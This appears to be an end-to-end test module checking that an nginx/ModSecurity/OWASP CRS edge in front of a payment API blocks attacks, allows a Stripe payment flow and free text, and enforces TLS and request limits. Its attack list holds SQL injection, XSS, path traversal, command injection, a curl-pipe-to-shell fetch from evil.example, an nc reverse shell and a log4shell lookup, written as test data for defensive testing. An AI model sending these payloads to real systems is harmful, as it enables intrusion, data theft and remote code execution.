"""The edge in front of the api: nginx + ModSecurity v3 + OWASP CRS (deploy/nginx).

SECURITY-REQUIREMENTS T3 (a web application firewall in front in production, PCI DSS 6.4.2), T1
(TLS 1.2+ with AEAD suites and HSTS on the edge listener, PCI DSS 4.2.1) and T4 (body size and
slow-client limits). Everything runs for real: `bastionpay up` on SQLite, the edge rendered with
deploy/nginx/render.py as an operator would, nginx on a loopback port, and the official Stripe SDK.

Both directions are proven, because a WAF is only useful if it is both:
- attacks (SQL injection, XSS, path traversal, scanners, command injection) are refused by nginx,
  never reach the api, are recorded in the ModSecurity audit log, and the refusal echoes nothing;
- a full Stripe payment flow and realistic free text pass with zero false positives: no refusal
  and not a single audit-log entry (a detection below the blocking threshold is still a false
  positive: it would bury real detections).

When nginx, the ModSecurity module or the CRS is missing the module is skipped, except under
BASTIONPAY_REQUIRE_SERVICES=1 (CI), where that is a failure.
"""

from __future__ import annotations

import shutil
import signal
import socket
import ssl
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.client import HTTPMessage, HTTPSConnection
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
import stripe
from stripe.params import PaymentIntentCreateParams
from tests.e2e.conftest import (
    DevCAHTTPClient,
    Platform,
    PlatformRunner,
    _platform_env,
    _unavailable,
)
from tests.e2e.waf_edge import (
    RENDER,
    Edge,
    issue_edge_certificate,
    missing_components,
    running_edge,
)

from bastionpay.crypto.devpki import ensure_dev_pki

# One xdist worker runs the whole module (scripts/test.sh uses --dist loadgroup): the platform
# and nginx are module fixtures, and splitting the module would start them once per worker.
pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("waf")]

HSTS = "max-age=63072000; includeSubDomains"
CLIENT_TIMEOUT_S = 2  # the edge's slow-client timeout in this module (default 10 s)
MAX_BODY_BYTES = 262144  # the api's BASTIONPAY_MAX_BODY_BYTES default, and the edge's limit


# --------------------------------------------------------------------------------------------
# Fixtures: the platform, the edge, clients
# --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def waf_components() -> None:
    reason = missing_components()
    if reason is not None:
        _unavailable(reason)


@pytest.fixture(scope="module")
def api(waf_components: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Platform]:
    env = _platform_env(None)
    # The api takes the client address from X-Forwarded-For only from this proxy (edge issue).
    env["BASTIONPAY_TRUSTED_PROXIES"] = "127.0.0.1/32"
    # This module tests the WAF, not the api's rate limiter (tests of its own cover that): the
    # demo merchant gets a high-volume limit, as bench/run.py gives its merchant, so a burst of
    # corpus requests is never answered 429 on a fast machine.
    env["BASTIONPAY_RATE_LIMIT_TEST_READ"] = "100000/second"
    env["BASTIONPAY_RATE_LIMIT_TEST_WRITE"] = "100000/second"
    runner = PlatformRunner("sqlite", tmp_path_factory.mktemp("waf-platform"), env)
    try:
        yield runner.start()
        runner.stop(signal.SIGINT)
    finally:
        runner.kill()


def _host_port(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.hostname}:{parts.port}"


@pytest.fixture(scope="module")
def edge_cert(api: Platform, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return issue_edge_certificate(api.data_dir / "tls", tmp_path_factory.mktemp("waf-edge-tls"))


@pytest.fixture(scope="module")
def edge(
    api: Platform, edge_cert: tuple[Path, Path], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Edge]:
    cert, key = edge_cert
    with running_edge(
        tmp_path_factory.mktemp("waf-edge"),
        upstream=_host_port(api.api_url),
        cert=cert,
        key=key,
        upstream_ca=Path(api.ca_file),
        client_ca_file=api.ca_file,
        # One worker: audit records are then written in request order (see no_findings_since).
        extra=("--workers", "1", "--client-timeout", str(CLIENT_TIMEOUT_S)),
    ) as running:
        resp = httpx.get(f"{running.url}/livez", verify=running.tls_context(), timeout=10)
        assert resp.status_code == 200, f"/livez through the edge: {resp.status_code} {resp.text}"
        yield running


@pytest.fixture(scope="module")
def http(edge: Edge, api: Platform) -> Iterator[httpx.Client]:
    """A plain client through the edge (HTTP Basic with the demo merchant's secret key)."""
    with httpx.Client(
        base_url=edge.url,
        verify=edge.tls_context(),
        auth=(api.secret_key, ""),
        timeout=30.0,
    ) as client:
        yield client


@pytest.fixture(scope="module")
def direct(api: Platform) -> Iterator[httpx.Client]:
    """The same client straight to the api, to compare answers with and without the edge."""
    with httpx.Client(
        base_url=api.api_url,
        verify=ssl.create_default_context(cafile=api.ca_file),
        auth=(api.secret_key, ""),
        timeout=30.0,
    ) as client:
        yield client


@pytest.fixture(scope="module")
def sdk(edge: Edge, api: Platform) -> Iterator[stripe.StripeClient]:
    """The official Stripe SDK pointed at the edge, verifying TLS against the platform CA."""
    transport = DevCAHTTPClient(api.ca_file)
    yield stripe.StripeClient(
        api.secret_key,
        base_addresses={"api": edge.url},
        http_client=transport,
        max_network_retries=0,  # a retry must never hide a refusal
    )
    transport.close()


# --------------------------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------------------------


def describe(entries: list[dict[str, Any]]) -> str:
    lines = []
    for entry in entries:
        request = entry.get("request", {})
        lines.append(f"{request.get('method')} {request.get('uri')}")
        for message in entry.get("messages", []):
            details = message.get("details", {})
            lines.append(
                f"    {details.get('ruleId')} {message.get('message')} | {details.get('data')}"
            )
    return "\n".join(lines)


def no_findings_since(edge: Edge, http: httpx.Client, mark: int) -> None:
    """Assert that no request since `mark` (an audit-entry count) left an audit-log entry.

    A record is written after its response is sent, so "nothing yet" proves nothing. A sentinel
    request that must be blocked is sent last and awaited: with a single worker, its record being
    written means every earlier request's record would have been written too. It also proves the
    audit log works at all, so an empty result cannot come from a broken log.
    """
    sentinel = http.get("/v1/customers", params={"email": "<script>alert('sentinel')</script>"})
    assert sentinel.status_code == 403, sentinel.text
    sentinel_id = sentinel.headers["x-request-id"]
    edge.audit_entry(sentinel_id)
    findings = [e for e in edge.audit_entries()[mark:] if e.get("unique_id") != sentinel_id]
    assert findings == [], "false positives in the WAF audit log:\n" + describe(findings)


@dataclass(frozen=True)
class RawResponse:
    status: int
    headers: HTTPMessage
    body: bytes


def raw_request(
    edge: Edge,
    method: str,
    target: str,
    *,
    headers: dict[str, str] | None = None,
    body: bytes | None = None,
) -> RawResponse:
    """One request with the target sent byte for byte (httpx would normalise `..` segments)."""
    conn = HTTPSConnection("127.0.0.1", edge.port, context=edge.tls_context(), timeout=30)
    try:
        conn.request(method, target, body=body, headers=headers or {})
        resp = conn.getresponse()
        return RawResponse(resp.status, resp.headers, resp.read())
    finally:
        conn.close()


# --------------------------------------------------------------------------------------------
# Zero false positives: the official SDK, Stripe's wire encodings, realistic free text
# --------------------------------------------------------------------------------------------


def test_stripe_sdk_payment_flow_passes_without_any_waf_finding(
    edge: Edge, http: httpx.Client, direct: httpx.Client, sdk: stripe.StripeClient
) -> None:
    mark = len(edge.audit_entries())
    run = uuid.uuid4().hex[:8]

    # Customers with metadata; punctuation, quotes, ampersands and non-ASCII round-trip unchanged.
    name = 'Siobhán O\'Brien & Sons "Ltd"'
    description = 'VIP — café « Zürich », 日本 😀; 100% satisfied & "happy" <3'
    customer = sdk.v1.customers.create(
        params={
            "name": name,
            "email": f"siobhan.obrien+{run}@example.com",
            "description": description,
            "metadata": {
                "order_id": f"6735-{run}",
                "note": 'it\'s "fragile" & <handle with care>',
                "return_url": "https://shop.example.com/orders/6735?ref=mail&utm_source=news",
            },
        }
    )
    assert (customer.name, customer.description) == (name, description)
    updated = sdk.v1.customers.update(
        customer.id,
        params={
            # Free text the command-word RCE rules would misread (bastionpay-after-crs.conf).
            "description": "Time slot: 10-11am; head office pick-up | ring twice & wait",
            "metadata": {"gift_message": "Happy 30th, Mom & Dad! Love, Sam :-)", "tier": "gold"},
        },
    )
    assert updated.metadata is not None
    assert updated.metadata["gift_message"] == "Happy 30th, Mom & Dad! Love, Sam :-)"
    assert updated.metadata["note"] == 'it\'s "fragile" & <handle with care>'

    # A payment with confirm=true and an idempotency key; the replay returns the same intent.
    key = f"order-6735-{run}"
    params: PaymentIntentCreateParams = {
        "amount": 2000,
        "currency": "usd",
        "payment_method": "pm_card_visa",
        "confirm": True,
        "customer": customer.id,
        "description": "Order #6735 — 2× T-shirt (size M); gift wrap: yes",
        "statement_descriptor": "BASTIONPAY 6735",
        "metadata": {"order_id": f"6735-{run}", "cart": '[{"sku":"TS-M","qty":2}]'},
    }
    intent = sdk.v1.payment_intents.create(params=params, options={"idempotency_key": key})
    assert intent.status == "succeeded"
    replay = sdk.v1.payment_intents.create(params=params, options={"idempotency_key": key})
    assert replay.id == intent.id

    # Manual capture, partial capture, refunds, cancel.
    manual = sdk.v1.payment_intents.create(
        params={
            "amount": 5000,
            "currency": "usd",
            "payment_method": "pm_card_visa",
            "capture_method": "manual",
            "confirm": True,
            "customer": customer.id,
        }
    )
    assert manual.status == "requires_capture"
    captured = sdk.v1.payment_intents.capture(manual.id, params={"amount_to_capture": 3000})
    assert (captured.status, captured.amount_received) == ("succeeded", 3000)
    partial = sdk.v1.refunds.create(
        params={
            "payment_intent": intent.id,
            "amount": 500,
            "reason": "requested_by_customer",
            "metadata": {"detail": 'customer\'s request: "arrived late" (2 days)'},
        }
    )
    assert (partial.status, partial.amount) == ("succeeded", 500)
    rest = sdk.v1.refunds.create(params={"payment_intent": captured.id})
    assert (rest.status, rest.amount) == ("succeeded", 3000)
    open_intent = sdk.v1.payment_intents.create(
        params={"amount": 1500, "currency": "usd", "customer": customer.id}
    )
    canceled = sdk.v1.payment_intents.cancel(
        open_intent.id, params={"cancellation_reason": "requested_by_customer"}
    )
    assert canceled.status == "canceled"

    # Lists with pagination and expand[].
    first = sdk.v1.payment_intents.list(
        params={"customer": customer.id, "limit": 2, "expand": ["data.customer"]}
    )
    assert first.has_more
    assert all(getattr(pi.customer, "id", None) == customer.id for pi in first.data)
    second = sdk.v1.payment_intents.list(
        params={"customer": customer.id, "limit": 2, "starting_after": first.data[-1].id}
    )
    seen = [pi.id for pi in first.data] + [pi.id for pi in second.data]
    assert sorted(seen) == sorted({intent.id, manual.id, open_intent.id})
    expanded = sdk.v1.payment_intents.retrieve(
        intent.id, params={"expand": ["customer", "latest_charge"]}
    )
    assert getattr(expanded.customer, "name", None) == name
    found = sdk.v1.customers.list(params={"email": f"siobhan.obrien+{run}@example.com"})
    assert [c.id for c in found.data] == [customer.id]

    # A decline: 402 with Stripe's error body, through the SDK ...
    with pytest.raises(stripe.CardError) as declined:
        sdk.v1.payment_intents.create(
            params={
                "amount": 2000,
                "currency": "usd",
                "payment_method": "pm_card_chargeDeclined",
                "confirm": True,
            }
        )
    assert (declined.value.http_status, declined.value.code) == (402, "card_declined")
    # ... and byte-level: the edge passes the api's 402 through unchanged (no error_page).
    decline = {
        "amount": "2000",
        "currency": "usd",
        "payment_method": "pm_card_chargeDeclined",
        "confirm": "true",
    }
    via_edge, straight = (
        http.post("/v1/payment_intents", data=decline),
        direct.post("/v1/payment_intents", data=decline),
    )
    assert via_edge.status_code == straight.status_code == 402
    assert via_edge.headers["content-type"] == straight.headers["content-type"]
    edge_error, api_error = via_edge.json()["error"], straight.json()["error"]
    for field_name in ("type", "code", "decline_code", "message"):
        assert edge_error.get(field_name) == api_error.get(field_name), field_name
    assert edge_error["decline_code"] == "generic_decline"

    deleted = sdk.v1.customers.delete(customer.id)  # DELETE is an allowed method at the edge
    assert deleted.deleted is True

    no_findings_since(edge, http, mark)


def test_stripe_wire_encodings_pass_without_any_waf_finding(edge: Edge, http: httpx.Client) -> None:
    """Bracket syntax as Stripe documents it for curl (the SDK sends indexed expand[0]=...)."""
    mark = len(edge.audit_entries())
    form = (
        "amount=1999&currency=usd&payment_method=pm_card_visa&confirm=true"
        "&payment_method_types[]=card&expand[]=latest_charge&expand[]=customer"
        "&metadata[order_id]=A-1%2F2026&metadata[sku]=TS-M%20(blue)"
        "&description=It%27s+%22fine%22+%26+paid+%E2%80%94+50%2F50+split"
    )
    created = http.post(
        "/v1/payment_intents",
        content=form,
        headers={
            "Content-Type": "application/x-www-form-urlencoded",
            "Idempotency-Key": f"curl-style-{uuid.uuid4()}",
        },
    )
    assert created.status_code == 200, created.text
    assert created.json()["status"] == "succeeded"
    assert created.json()["metadata"] == {"order_id": "A-1/2026", "sku": "TS-M (blue)"}
    # The SDKs' indexed form of the same arrays.
    indexed = http.post(
        "/v1/payment_intents",
        content="amount=1000&currency=usd&payment_method_types[0]=card&expand[0]=customer",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert indexed.status_code == 200, indexed.text
    listed = http.get("/v1/payment_intents?limit=3&expand[]=data.latest_charge")
    assert listed.status_code == 200, listed.text
    # JSON bodies are parsed by ModSecurity too (rule 200001); the same exclusions apply.
    as_json = http.post(
        "/v1/customers",
        json={
            "name": "Zoë D'Arcy",
            "description": "Pay now; sort later",
            "metadata": {"note": "Fish; cat food; dog toys", "ref": "PO 17 | A-1"},
        },
    )
    assert as_json.status_code == 200, as_json.text
    no_findings_since(edge, http, mark)


# Plausible names, descriptions, order notes and metadata values, several of which the CRS at
# paranoia level 1 refuses without the free-text exclusions (bastionpay-after-crs.conf).
FREE_TEXT = [
    'O\'Brien & Sons "Ltd"',
    "Mr. & Mrs. O'Connor's anniversary",
    "It's 5 o'clock; don't ring -- knock",
    'Bob\'s "best" deal; 20% off -- today only!',
    'Tom\'s order: 3 x "Deluxe" <gift> box',
    "Order #1234 — 2× T-shirt (size M), 1× mug; gift wrap: yes",
    "Price: $19.99 + tax; cost=$12.50 & tax=$1.00",
    "Invoice 42 / PO 17 | ref: A-1",
    "email me: a@b.co; or call +1 (555) 010-9999; ext. 12",
    "https://shop.example.com/orders/1234?ref=email&utm_source=newsletter",
    "Café Zürich – Rechnung Nr. 2026/11/28",
    "Rua São João, 45 — Lisboa; Calle Mayor nº 3, 2ºB",
    "Русский текст, заказ №5; 中文描述：礼品包装; العربية: شكرا",
    "🎉🎁 Happy birthday! <3",
    "SELECT plan: Pro (annual)",
    "Please update my address; drop off at back door",
    "1 or 2 items, it's 1=1 fun",
    "Time slot: 10-11am",
    "time to ship: 2 days",
    "head office: London",
    "tail end of the season sale",
    "echo park store",
    "exec summary attached",
    "bash party supplies",
    "sudo make me a sandwich",
    "Fish; cat food; dog toys",
    "apples; pears; more later",
    "Notes: see attached; more to follow",
    "blue | find a matching hat",
    "2 shirts; time slot 10-11am",
    "Pay now; sort later",
    "python & ruby stickers",
]


def test_realistic_free_text_passes_without_any_waf_finding(edge: Edge, http: httpx.Client) -> None:
    mark = len(edge.audit_entries())
    refused = []
    for text in FREE_TEXT:
        resp = http.post(
            "/v1/customers",
            data={"name": text[:256], "description": text, "metadata[note]": text},
        )
        if resp.status_code != 200:
            refused.append((resp.status_code, text))
    assert refused == []
    no_findings_since(edge, http, mark)


# --------------------------------------------------------------------------------------------
# Attacks: refused at the edge, never forwarded, recorded, and not echoed
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    name: str
    method: str
    target: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None
    # Strings of the payload that must not come back in the refusal.
    markers: tuple[str, ...] = ()
    # 403: the WAF refused it. 400: nginx's own URI normalisation refused a path that climbs above
    # the root before the WAF ran (also never forwarded).
    status: int = 403


FORM = {"Content-Type": "application/x-www-form-urlencoded"}

ATTACKS = [
    Attack(
        "sqli-query-string",
        "GET",
        "/v1/customers?email=%27%20OR%20%271%27%3D%271%27%20--",
        markers=("OR '1'='1'", "%27%20OR"),
    ),
    Attack(
        "sqli-form-body",
        "POST",
        "/v1/payment_intents",
        FORM,
        b"amount=2000&currency=usd&customer=cus_1%27%20UNION%20SELECT%20secret%20FROM%20api_keys--",
        markers=("UNION SELECT", "api_keys"),
    ),
    Attack(
        "sqli-in-free-text-is-still-refused",
        "POST",
        "/v1/customers",
        FORM,
        b"description=x%27%20OR%20%271%27%3D%271%27%20--",
        markers=("OR '1'='1'",),
    ),
    Attack(
        "sqli-json-body",
        "POST",
        "/v1/customers",
        {"Content-Type": "application/json"},
        b'{"email": "a\' OR 1=1; DROP TABLE customers --"}',
        markers=("DROP TABLE",),
    ),
    Attack(
        "xss-query-parameter",
        "GET",
        "/v1/customers?email=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        markers=("<script>", "alert(document.cookie)"),
    ),
    Attack(
        "xss-in-free-text-is-still-refused",
        "POST",
        "/v1/customers",
        FORM,
        b"metadata[note]=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        markers=("onerror", "<img"),
    ),
    Attack(
        "xss-referer-header",
        "GET",
        "/v1/balance",
        {"Referer": 'https://shop.example.com/"><script>alert(1)</script>'},
        markers=("<script>", "alert(1)"),
    ),
    Attack(
        "xss-user-agent-header",
        "GET",
        "/v1/balance",
        {"User-Agent": "Mozilla/5.0 <svg/onload=alert(document.domain)>"},
        markers=("onload", "document.domain"),
    ),
    Attack("path-traversal-plain", "GET", "/v1/../../etc/passwd", status=400),
    Attack("path-traversal-dot-encoded", "GET", "/v1/%2e%2e/%2e%2e/etc/passwd", status=400),
    Attack(
        "path-traversal-slash-encoded",
        "GET",
        "/v1/customers/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        markers=("passwd",),
    ),
    Attack(
        "path-traversal-double-encoded",
        "GET",
        "/v1/customers/..%252f..%252fetc%252fpasswd",
        markers=("passwd",),
    ),
    Attack(
        "path-traversal-overlong-utf8",
        "GET",
        "/v1/customers/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        markers=("passwd",),
    ),
    Attack(
        "path-traversal-backslash",
        "GET",
        "/v1/customers/..\\..\\etc\\passwd",
        markers=("passwd",),
    ),
    Attack(
        "path-traversal-parameter",
        "GET",
        "/v1/customers?starting_after=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        markers=("passwd",),
    ),
    Attack(
        "scanner-sqlmap",
        "GET",
        "/v1/balance",
        {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"},
        markers=("sqlmap",),
    ),
    Attack(
        "scanner-nikto",
        "GET",
        "/v1/balance",
        {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"},
        markers=("Nikto",),
    ),
    Attack(
        "rce-command-injection-in-identifier",
        "POST",
        "/v1/payment_intents",
        FORM,
        b"amount=2000&currency=usd&customer=cus_1%3Bcat%20%2Fetc%2Fpasswd",
        markers=("/etc/passwd", "cat "),
    ),
    Attack(
        "rce-shell-syntax-in-free-text-is-still-refused",
        "POST",
        "/v1/customers",
        FORM,
        b"metadata[note]=%24(curl%20http%3A%2F%2Fevil.example%2Fx.sh%20%7C%20sh)",
        markers=("evil.example", "x.sh"),
    ),
    Attack(
        "rce-reverse-shell-query",
        "GET",
        "/v1/customers?email=%7Cnc%20-e%20%2Fbin%2Fsh%2010.0.0.1%204444",
        markers=("/bin/sh", "nc -e"),
    ),
    Attack(
        "log4shell-lookup-in-parameter",
        "GET",
        "/v1/customers?email=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        markers=("jndi", "evil.example"),
    ),
    Attack(
        "content-type-not-served-by-the-api",
        "POST",
        "/v1/customers",
        {"Content-Type": "text/xml"},
        b"<customer><name>x</name></customer>",
        markers=("<customer>",),
    ),
    Attack("method-not-served-by-the-api", "PUT", "/v1/customers", FORM, b"name=x"),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_is_refused_at_the_edge(edge: Edge, api: Platform, attack: Attack) -> None:
    headers = {"Authorization": f"Bearer {api.secret_key}", **attack.headers}
    resp = raw_request(edge, attack.method, attack.target, headers=headers, body=attack.body)

    assert resp.status == attack.status, resp.body[:500]
    # Refused by nginx itself: the api never saw it (it would have set its own Request-Id).
    assert resp.headers.get("request-id") is None
    request_id = resp.headers["x-request-id"]
    assert edge.access_entry(request_id)["upstream_status"] == ""
    # The refusal is nginx's fixed page: no payload, no version banner.
    body = resp.body.decode(errors="replace")
    for marker in attack.markers:
        assert marker.lower() not in body.lower(), f"the refusal echoes {marker!r}"
    assert body.count("nginx") <= 1 and "nginx/" not in body
    assert resp.headers["server"] == "nginx"
    assert resp.headers["strict-transport-security"] == HSTS

    if attack.status == 403:
        # Recorded: the audit log has this transaction (its id is the X-Request-Id) with the
        # anomaly-score decision, and the rules that matched (PCI DSS 6.4.2, 10.2).
        entry = edge.audit_entry(request_id)
        rules = {m["details"]["ruleId"] for m in entry["messages"]}
        assert "949110" in rules, describe([entry])
        assert entry["response"]["http_code"] == 403


def test_audit_and_access_logs_hold_no_credentials(
    edge: Edge, api: Platform, http: httpx.Client
) -> None:
    """The audit log omits request headers and bodies (libmodsecurity v3 cannot sanitise them),
    so a blocked request's API key never reaches it (SECURITY-REQUIREMENTS L3)."""
    blocked = http.get("/v1/customers", params={"email": "' OR 1=1 --"})
    assert blocked.status_code == 403
    edge.audit_entry(blocked.headers["x-request-id"])
    edge.access_entry(blocked.headers["x-request-id"])
    secret = api.secret_key.encode()
    for log in (edge.audit_log, edge.access_log, edge.error_log):
        assert secret not in log.read_bytes(), f"{log.name} contains a secret API key"


# --------------------------------------------------------------------------------------------
# TLS and headers on the edge listener (T1)
# --------------------------------------------------------------------------------------------


def _handshake(edge: Edge, context: ssl.SSLContext) -> str:
    with (
        socket.create_connection(("127.0.0.1", edge.port), timeout=10) as sock,
        context.wrap_socket(sock, server_hostname="127.0.0.1") as tls,
    ):
        return f"{tls.version()} {tls.cipher()}"


def _client_context(edge: Edge) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.load_verify_locations(edge.ca_file)
    return context


def _openssl_refuses(edge: Edge, flag: str) -> None:
    openssl = shutil.which("openssl")
    if openssl is None:
        _unavailable(f"neither Python's ssl nor an openssl binary can offer {flag} here")
    proc = subprocess.run(
        [openssl, "s_client", "-connect", f"127.0.0.1:{edge.port}", flag, "-CAfile", edge.ca_file],
        input="",
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    output = proc.stdout + proc.stderr
    if "no protocols available" in output or "unknown option" in output:
        _unavailable(f"the local OpenSSL cannot offer {flag}: {output[-300:]}")
    assert "alert protocol version" in output, output[-2000:]
    assert "Cipher is (NONE)" in output, output[-2000:]


@pytest.mark.parametrize(
    ("version", "flag"), [("TLSv1", "-tls1"), ("TLSv1_1", "-tls1_1")], ids=["1.0", "1.1"]
)
@pytest.mark.filterwarnings("ignore:ssl.TLSVersion.TLSv1:DeprecationWarning")
def test_tls_below_1_2_is_refused(edge: Edge, version: str, flag: str) -> None:
    context = _client_context(edge)
    try:
        # SECLEVEL=0 so that this client really offers the old protocol: the refusal must come
        # from the server (a protocol_version alert), not from the client's own policy.
        context.set_ciphers("ALL:@SECLEVEL=0")
        context.minimum_version = getattr(ssl.TLSVersion, version)
        context.maximum_version = getattr(ssl.TLSVersion, version)
    except (ValueError, ssl.SSLError):
        _openssl_refuses(edge, flag)
        return
    with pytest.raises(ssl.SSLError) as refused:
        _handshake(edge, context)
    if refused.value.reason in ("NO_PROTOCOLS_AVAILABLE", "UNSUPPORTED_PROTOCOL"):
        _openssl_refuses(edge, flag)  # this Python's OpenSSL would not send the ClientHello
        return
    assert refused.value.reason == "TLSV1_ALERT_PROTOCOL_VERSION", refused.value


def test_tls_1_2_allows_only_ecdhe_aead_suites(edge: Edge) -> None:
    cbc = _client_context(edge)
    cbc.maximum_version = ssl.TLSVersion.TLSv1_2
    cbc.set_ciphers("ECDHE-ECDSA-AES128-SHA:ECDHE-ECDSA-AES256-SHA384:AES128-SHA:@SECLEVEL=0")
    with pytest.raises(ssl.SSLError):
        _handshake(edge, cbc)
    aead = _client_context(edge)
    aead.maximum_version = ssl.TLSVersion.TLSv1_2
    assert "ECDHE-ECDSA-AES128-GCM-SHA256" in _handshake(
        edge, _with_ciphers(aead, "ECDHE-ECDSA-AES128-GCM-SHA256")
    )
    assert _handshake(edge, _client_context(edge)).startswith("TLSv1.3")


def _with_ciphers(context: ssl.SSLContext, ciphers: str) -> ssl.SSLContext:
    context.set_ciphers(ciphers)
    return context


def test_responses_carry_one_hsts_header_and_no_version_banner(
    edge: Edge, http: httpx.Client
) -> None:
    answers = {
        "proxied no-op": http.get("/livez"),
        "proxied api call": http.get("/v1/balance"),
        "api error passed through": http.get("/v1/customers/cus_missing"),
        "WAF refusal": http.get("/v1/balance", headers={"User-Agent": "sqlmap/1.7.2"}),
        "edge error": http.post("/v1/customers", content=b"x" * (MAX_BODY_BYTES + 1)),
    }
    assert [r.status_code for r in answers.values()] == [200, 200, 404, 403, 413]
    for what, resp in answers.items():
        assert resp.headers.get_list("strict-transport-security") == [HSTS], what
        assert resp.headers["server"] == "nginx", what  # server_tokens off: no version
        assert "nginx/" not in resp.text, what
        assert resp.headers.get("x-request-id"), what


# --------------------------------------------------------------------------------------------
# Limits (T4) and the upstream hop
# --------------------------------------------------------------------------------------------


def test_body_limit_matches_the_api(edge: Edge, http: httpx.Client) -> None:
    too_large = http.post(
        "/v1/customers",
        content=b"description=" + b"a" * MAX_BODY_BYTES,
        headers=FORM,
    )
    assert too_large.status_code == 413
    assert too_large.headers.get("request-id") is None  # answered by nginx
    assert too_large.json()["error"]["code"] == "request_too_large"
    assert too_large.json()["error"]["type"] == "invalid_request_error"
    # A body of exactly the limit is forwarded: the api, not the edge, answers it (here with
    # its own validation error: a description is at most 1000 characters).
    at_limit = http.post(
        "/v1/customers",
        content=b"description=" + b"a" * (MAX_BODY_BYTES - len(b"description=")),
        headers=FORM,
    )
    assert at_limit.status_code == 400, at_limit.text[:300]
    assert at_limit.headers.get("request-id", "").startswith("req_")


def test_oversized_header_is_refused_in_the_api_error_shape(edge: Edge, http: httpx.Client) -> None:
    """A header line over the 8 KiB buffers: 431 like the api's own header limit, never 5xx."""
    resp = http.get("/v1/balance", headers={"X-Padding": "a" * 9000})
    assert resp.status_code == 431
    assert resp.headers.get("request-id") is None  # answered by nginx
    assert resp.json()["error"]["code"] == "headers_too_large"


def test_slow_header_client_is_disconnected(edge: Edge) -> None:
    """Slowloris: a client that never finishes its headers loses the connection."""
    with (
        socket.create_connection(("127.0.0.1", edge.port), timeout=CLIENT_TIMEOUT_S + 10) as sock,
        edge.tls_context().wrap_socket(sock, server_hostname="127.0.0.1") as tls,
    ):
        started = time.monotonic()
        tls.sendall(b"GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: 1\r\n")  # no end
        try:
            data = tls.recv(4096)
        except (ConnectionResetError, ssl.SSLError):
            data = b""
        elapsed = time.monotonic() - started
    assert data == b"", data[:200]  # closed, nothing served
    assert CLIENT_TIMEOUT_S - 0.5 <= elapsed <= CLIENT_TIMEOUT_S + 5, elapsed


def test_upstream_certificate_is_verified(
    api: Platform, edge_cert: tuple[Path, Path], tmp_path_factory: pytest.TempPathFactory
) -> None:
    """An edge that trusts another CA refuses to talk to the api (proxy_ssl_verify on)."""
    other_ca = ensure_dev_pki(tmp_path_factory.mktemp("other-ca")).ca_file
    cert, key = edge_cert
    with running_edge(
        tmp_path_factory.mktemp("waf-edge-wrong-ca"),
        upstream=_host_port(api.api_url),
        cert=cert,
        key=key,
        upstream_ca=other_ca,
        client_ca_file=api.ca_file,
        extra=("--workers", "1"),
    ) as wrong:
        resp = httpx.get(f"{wrong.url}/v1/balance", verify=wrong.tls_context(), timeout=30)
        assert resp.status_code == 502
        assert resp.json()["error"]["code"] == "upstream_unavailable"
        assert "upstream SSL certificate verify error" in wrong.error_log.read_text()


def test_renderer_refuses_values_that_could_inject_directives(tmp_path: Path) -> None:
    cert = tmp_path / "edge.pem"
    cert.write_text("not used")
    base = [sys.executable, str(RENDER), "--upstream", "127.0.0.1:9443", "--key", str(cert)]
    cases = {
        "path with ;": ["--listen", "127.0.0.1:8443", "--cert", f"{cert};", "--upstream-ca",
                        str(cert), "--prefix", str(tmp_path / "p")],
        "path with space": ["--listen", "127.0.0.1:8443", "--cert", str(cert), "--upstream-ca",
                            str(cert), "--prefix", str(tmp_path / "p q")],
        "listen with directive": ["--listen", "127.0.0.1:8443 ssl; include /etc/x", "--cert",
                                  str(cert), "--upstream-ca", str(cert), "--prefix",
                                  str(tmp_path / "p")],
    }  # fmt: skip
    for what, args in cases.items():
        proc = subprocess.run(
            [*base, *args], capture_output=True, text=True, timeout=60, check=False
        )
        assert proc.returncode == 2, (what, proc.stdout, proc.stderr)
        assert "render.py:" in proc.stderr, what
        assert not (tmp_path / "p" / "nginx.conf").exists(), what
